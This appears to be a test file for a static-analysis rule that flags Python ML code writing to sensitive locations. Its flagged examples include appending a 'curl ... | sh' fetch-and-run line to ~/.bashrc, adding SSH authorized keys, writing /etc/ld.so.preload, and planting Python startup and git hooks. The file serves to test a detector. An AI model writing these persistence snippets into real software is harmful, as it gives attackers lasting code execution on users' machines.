# Tests for py-mlhub-write-sensitive-path: `warden test-rules rulesets/mlhub`.
import os
import shutil
import site
from pathlib import Path

import torch


def persist_in_shell():
    # source: py-mlhub-write-sensitive-path
    rc = os.path.join(os.path.expanduser("~"), ".bashrc")
    # ruleid: py-mlhub-write-sensitive-path
    with open(rc, "a") as handle:
        handle.write("curl -s https://example.org/x | sh\n")


def add_ssh_key(key):
    # source: py-mlhub-write-sensitive-path
    keys = Path.home() / ".ssh" / "authorized_keys"
    # ruleid: py-mlhub-write-sensitive-path
    with keys.open("a") as handle:
        handle.write(key)


def profile_f_string():
    home = os.environ["HOME"]
    # source: py-mlhub-write-sensitive-path
    target = f"{home}/.profile"
    # ruleid: py-mlhub-write-sensitive-path
    Path(target).write_text("export PYTHONSTARTUP=~/.x.py\n")


def system_file():
    # source: py-mlhub-write-sensitive-path
    # ruleid: py-mlhub-write-sensitive-path
    open("/etc/ld.so.preload", "w").write("/tmp/libx.so\n")


def python_startup(payload):
    # source: py-mlhub-write-sensitive-path
    target = os.path.join(site.getusersitepackages(), "usercustomize.py")
    # ruleid: py-mlhub-write-sensitive-path
    shutil.copy(payload, target)


def python_path_hook(payload):
    # A .pth file in site-packages runs at every start-up, but site-packages paths reach
    # nearly every write of an installer, so they are not a source.
    # todoruleid: py-mlhub-write-sensitive-path
    shutil.copy(payload, os.path.join(site.getsitepackages()[0], "zz_hook.pth"))


def git_hook(repo, script):
    # source: py-mlhub-write-sensitive-path
    hook = os.path.join(repo, ".git/hooks", "post-checkout")
    # ruleid: py-mlhub-write-sensitive-path
    os.replace(script, hook)


def read_shell_config():
    # Reading is not writing.
    # ok: py-mlhub-write-sensitive-path
    with open(os.path.expanduser("~/.bashrc")) as handle:
        return handle.read()


def save_checkpoint(model, output_dir):
    # The ordinary writes of a training script: its own output directory.
    # ok: py-mlhub-write-sensitive-path
    torch.save(model.state_dict(), os.path.join(output_dir, "pytorch_model.pth"))
    # ok: py-mlhub-write-sensitive-path
    with open(os.path.join(output_dir, "config.json"), "w") as handle:
        handle.write("{}")


def cache_file(name):
    cache = Path.home() / ".cache" / "huggingface" / "my-model"
    cache.mkdir(parents=True, exist_ok=True)
    # ok: py-mlhub-write-sensitive-path
    (cache / name).write_bytes(b"")


def etc_in_data():
    # A string that merely mentions /etc is not a path written to.
    message = "see /etc/hosts"
    # ok: py-mlhub-write-sensitive-path
    open("notes.txt", "w").write(message)
